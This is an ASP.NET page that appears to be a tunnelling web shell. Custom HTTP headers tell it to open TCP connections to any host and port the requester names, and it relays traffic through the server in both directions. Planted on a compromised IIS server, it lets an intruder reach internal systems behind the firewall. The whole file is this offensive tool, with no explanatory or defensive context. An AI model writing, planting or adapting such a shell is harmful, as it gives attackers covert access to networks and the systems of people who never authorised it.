<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    string cmd = Request.Headers.Get("X-CMD");
    if (cmd == "CONNECT") {
        string target = Request.Headers.Get("X-TARGET");
        int port = int.Parse(Request.Headers.Get("X-PORT"));
        Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sock.Connect(new IPEndPoint(IPAddress.Parse(target), port));
        sock.Blocking = false;
        Session.Add("socket", sock);
        Response.AddHeader("X-STATUS", "OK");
    } else if (cmd == "READ") {
        Socket s = (Socket)Session["socket"];
        byte[] buf = new byte[512];
        int n = s.Receive(buf);
        Response.BinaryWrite(buf);
    } else if (cmd == "FORWARD") {
        Socket s = (Socket)Session["socket"];
        byte[] data = Request.BinaryRead(Request.ContentLength);
        s.Send(data);
    }
%>
